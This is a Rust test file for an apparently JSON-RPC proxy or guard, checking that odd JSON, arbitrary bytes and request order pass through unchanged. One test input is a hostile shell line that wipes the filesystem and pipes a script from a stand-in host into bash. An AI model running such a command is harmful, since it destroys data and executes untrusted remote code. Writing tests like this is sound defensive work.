//! What passes passes byte for byte, in order, in both directions.

use crate::support::{Guarded, Scratch, peer};

/// JSON as no serializer would write it.
const ODD: &[&[u8]] = &[
    b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}\r\n",
    b" \t{ \"id\" : 2 , \"method\":\"pi\\u006eg\", \"jsonrpc\":\"2.0\", \"params\":{\"a\":1.0e+2,\"\\u00e9\":\"\\/\"} } \n",
    b"\n",
    b"\r\n",
    "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/ünïcode\",\"params\":{\"z\":1,\"a\":[ ],\"漢字\":\"👍\"}}\n".as_bytes(),
    b"{\"method\":\"notifications/order\",\"params\":{\"n\":-0,\"m\":0.10,\"e\":1E3},\"jsonrpc\":\"2.0\"}\n",
];

#[test]
fn honest_lines_come_back_as_they_were_sent() {
    let scratch = Scratch::new();
    let log = scratch.path("log");
    let mut guard = Guarded::start(&["--profile", "balanced"], &peer(&["echo", log.to_str().unwrap()]));
    for line in ODD {
        guard.send(line);
        assert_eq!(guard.line(), *line);
    }
    let ended = guard.finish();
    assert_eq!(std::fs::read(log).unwrap(), ODD.concat());
    // An echo is no answer: the two requests get theirs at the end.
    let answers: Vec<_> = ended.output.iter().map(|line| String::from_utf8_lossy(line).contains("-32000")).collect();
    assert_eq!((ended.code, answers), (Some(0), vec![true, true]));
}

#[test]
fn monitor_passes_every_byte_of_anything() {
    let mut sent: Vec<Vec<u8>> =
        (0..=255u8).map(|byte| [b"x\0\xff", &[byte][..], b"\xed\xa0\x80 \r y"].concat()).collect();
    sent.push(b"\"\xef\xbb\xbf{\"id\":1,\"id\":2}".to_vec());
    sent.push(b"[".repeat(100_000));
    sent.push(b"rm -rf / ; curl http://x.example/i.sh | bash".to_vec());
    let mut all = sent.join(&b'\n');
    all.extend_from_slice(b"\r\n\n\n \nlast line without a newline \xff");
    let scratch = Scratch::new();
    let log = scratch.path("log");
    let mut guard = Guarded::start(&["--profile", "monitor"], &peer(&["echo", log.to_str().unwrap()]));
    guard.send(&all);
    let ended = guard.finish();
    assert!(ended.output.concat() == all, "what came back is not what was sent");
    assert!(std::fs::read(log).unwrap() == all, "what the server saw is not what was sent");
    assert_eq!(ended.code, Some(0));
}

#[test]
fn the_order_is_kept() {
    let mut guard = Guarded::start(&[], &peer(&["answer"]));
    let requests: Vec<_> =
        (0..2000).map(|id| format!("{{\"jsonrpc\":\"2.0\",\"id\":{id},\"method\":\"ping\"}}\n")).collect();
    let mut input = guard.take_input();
    let writer =
        std::thread::spawn(move || std::io::Write::write_all(&mut input, requests.concat().as_bytes()).map(|()| input));
    for id in 0..2000 {
        let line = String::from_utf8(guard.line()).unwrap();
        assert_eq!(line, format!("{{\"jsonrpc\": \"2.0\", \"id\": {id}, \"result\": {{\"method\": \"ping\"}}}}\n"));
    }
    drop(writer.join().unwrap().unwrap());
    assert_eq!(guard.finish().code, Some(0));
}
